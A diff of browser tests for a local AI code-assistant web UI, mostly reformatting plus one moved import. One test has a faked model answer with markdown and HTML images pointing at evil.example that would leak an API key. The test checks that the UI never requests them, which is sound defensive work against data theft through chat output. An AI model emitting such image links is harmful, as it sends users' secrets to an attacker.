@@ -9,13 +9,16 @@ from typing import Any
 import httpx
 import pytest
 
-from tests.conftest import Layout, free_port
 from tests.fakes.ollama import DONE, FakeOllama
+from tests.helpers import Layout, free_port
 from tests.web.ui import SHOTS, answer, ready, send, tool_round, until
 
 pytestmark = pytest.mark.browser
 
-def test_two_tool_calls_trace_then_streamed_answer(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+
+def test_two_tool_calls_trace_then_streamed_answer(
+    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
+) -> None:
     server = live_server(layout.repo, ollama_url=fake_ollama.url)
     fake_ollama.chat_script(
         tool_round(("search_files", {"query": "main"}), ("read_file", {"path": "src/main.py"})),
@@ -49,7 +52,9 @@ def test_two_tool_calls_trace_then_streamed_answer(layout: Layout, live_server: 
     page.screenshot(path=str(SHOTS / "chat-wide.png"))
 
 
-def test_stop_mid_answer_closes_the_stream(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+def test_stop_mid_answer_closes_the_stream(
+    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
+) -> None:
     server = live_server(layout.repo, ollama_url=fake_ollama.url)
     fake_ollama.chat_script(answer("one ", "two ", "three ", "four ", delay=1.0))
     page, _ = open_page(server.url)
@@ -68,7 +73,9 @@ def test_stop_mid_answer_closes_the_stream(layout: Layout, live_server: Any, fak
     assert [what for what, _ in fake_ollama.disconnects] == ["chat"]
 
 
-def test_model_pull_progress_reaches_100(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+def test_model_pull_progress_reaches_100(
+    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
+) -> None:
     server = live_server(layout.repo, ollama_url=fake_ollama.url)
     fake_ollama.chunk_delay = 0.1
     page, _ = open_page(server.url)
@@ -120,7 +127,9 @@ def test_without_a_model_server_a_question_gets_search_results_said_to_be_that(
     page.screenshot(path=str(SHOTS / "no-model-server.png"))
 
 
-def test_a_llama_cpp_backend_is_named_and_gguf_models_shortened(layout: Layout, live_server: Any, open_page: Any) -> None:
+def test_a_llama_cpp_backend_is_named_and_gguf_models_shortened(
+    layout: Layout, live_server: Any, open_page: Any
+) -> None:
     from tests.fakes.openai import FakeOpenAI
 
     fake = FakeOpenAI(models=[{"name": "/models/SmolLM2-135M-Instruct-Q8_0.gguf"}]).start()
@@ -128,17 +137,21 @@ def test_a_llama_cpp_backend_is_named_and_gguf_models_shortened(layout: Layout, 
         server = live_server(layout.repo, backend="openai", base_url=fake.base_url)
         page, _ = open_page(server.url)
         ready(page)
-        page.wait_for_function("document.querySelector('#health .label').textContent.startsWith('llama.cpp at')", timeout=10_000)
+        page.wait_for_function(
+            "document.querySelector('#health .label').textContent.startsWith('llama.cpp at')", timeout=10_000
+        )
         assert fake.base_url in page.locator("#health").inner_text()
         option = page.locator("#model-picker option").first
         assert option.inner_text().startswith("SmolLM2-135M-Instruct-Q8_0")
-        assert option.get_attribute("title").startswith("/models/SmolLM2-135M-Instruct-Q8_0.gguf")  # type: ignore[union-attr]
+        assert option.get_attribute("title").startswith("/models/SmolLM2-135M-Instruct-Q8_0.gguf")
         page.screenshot(path=str(SHOTS / "llama-cpp-header.png"))
     finally:
         fake.down()
 
 
-def test_the_file_panel_can_be_widened_by_dragging(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+def test_the_file_panel_can_be_widened_by_dragging(
+    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
+) -> None:
     server = live_server(layout.repo, ollama_url=fake_ollama.url)
     page, _ = open_page(server.url)
     ready(page)
@@ -158,9 +171,13 @@ def test_the_file_panel_can_be_widened_by_dragging(layout: Layout, live_server: 
     assert kept and abs(kept["width"] - after["width"]) < 2
 
 
-def test_an_answer_after_the_round_limit_has_a_quiet_note(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+def test_an_answer_after_the_round_limit_has_a_quiet_note(
+    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
+) -> None:
     server = live_server(layout.repo, ollama_url=fake_ollama.url, max_rounds=1)
-    fake_ollama.chat_script(tool_round(("list_files", {})), [{"message": {"role": "assistant", "content": "Here is what I found."}}, DONE])
+    fake_ollama.chat_script(
+        tool_round(("list_files", {})), [{"message": {"role": "assistant", "content": "Here is what I found."}}, DONE]
+    )
     page, _ = open_page(server.url)
     ready(page)
     send(page, "look around")
@@ -168,7 +185,9 @@ def test_an_answer_after_the_round_limit_has_a_quiet_note(layout: Layout, live_s
     assert "ran out of tool rounds" in page.locator(".message.assistant .note").inner_text()
 
 
-def test_api_key_is_asked_once_and_kept_for_the_tab(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+def test_api_key_is_asked_once_and_kept_for_the_tab(
+    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
+) -> None:
     server = live_server(layout.repo, ollama_url=fake_ollama.url, api_key="s3cret-key")
     page, _ = open_page(server.url)
     page.wait_for_selector("#key-dialog[open]", timeout=10_000)
@@ -182,9 +201,13 @@ def test_api_key_is_asked_once_and_kept_for_the_tab(layout: Layout, live_server:
     assert not page.locator("#key-dialog").evaluate("d => d.open")
 
 
-def test_remote_markdown_image_is_never_requested(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+def test_remote_markdown_image_is_never_requested(
+    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
+) -> None:
     server = live_server(layout.repo, ollama_url=fake_ollama.url)
-    fake_ollama.chat_script(answer("Here: ![secret](http://evil.example/leak.png?d=API_KEY) and <img src='https://evil.example/x.gif'>"))
+    fake_ollama.chat_script(
+        answer("Here: ![secret](http://evil.example/leak.png?d=API_KEY) and <img src='https://evil.example/x.gif'>")
+    )
     page, requests = open_page(server.url)
     ready(page)
     send(page, "show me")
@@ -197,7 +220,9 @@ def test_remote_markdown_image_is_never_requested(layout: Layout, live_server: A
     assert "img-src 'self' data:" in csp
 
 
-def test_enter_sends_shift_enter_adds_a_line_and_narrow_layout(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+def test_enter_sends_shift_enter_adds_a_line_and_narrow_layout(
+    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
+) -> None:
     server = live_server(layout.repo, ollama_url=fake_ollama.url)
     fake_ollama.chat_script(answer("ok"))
     page, _ = open_page(server.url, width=400, height=800)
@@ -243,7 +268,7 @@ def test_the_search_box_groups_results_by_file_and_opens_the_preview_at_the_line
     files = page.locator(".search-path").all_inner_texts()
     assert files[0] == "src/retry.py" and "src/client.py" in files
     first = page.locator(".search-hit").first
-    assert first.locator(".search-lines").inner_text() == "121–123"
+    assert first.locator(".search-lines").inner_text() == "121–123"  # noqa: RUF001 - the UI's own characters
     assert first.locator(".search-symbol").inner_text() == "backoff_delay"
     labels = first.locator(".why-label").all_inner_texts()
     assert "source file" in labels and any(label.startswith("body:") for label in labels)
@@ -295,7 +320,7 @@ def test_conversations_are_kept_listed_branched_and_cited(
     assert page.locator(".message.user .body").inner_text() == "What does main return?"
     assert page.locator(".trace-entry .tool-name").all_inner_texts() == ["read_file"]
     assert page.locator(".message.assistant a.cite").first.inner_text() == "src/main.py:2"
-    # asking again makes a second version, switched with ‹ 2/2 ›
+    # asking again makes a second version, switched with ‹ 2/2 ›  # noqa: RUF003 - the UI's own characters
     page.click(".message.assistant >> text=Ask again")
     page.wait_for_selector(".message.assistant .branch-count >> text=2/2", timeout=10_000)
     assert "asked again" in page.locator(".message.assistant .body").inner_text()
@@ -316,7 +341,12 @@ def test_conversations_are_kept_listed_branched_and_cited(
     fake_ollama.chat_script(answer("Nothing else."))
     send(page, "Anything else?")
     # the edit of the first question retitled the conversation (nobody had named it)
-    until(lambda: page.locator(".conversation-title").all_inner_texts() == ["Anything else?", "What does main return, exactly?"])
+    until(
+        lambda: (
+            page.locator(".conversation-title").all_inner_texts()
+            == ["Anything else?", "What does main return, exactly?"]
+        )
+    )
     first = page.locator(".conversation").nth(1)
     first.hover()
     first.locator("button[title=Rename]").click()
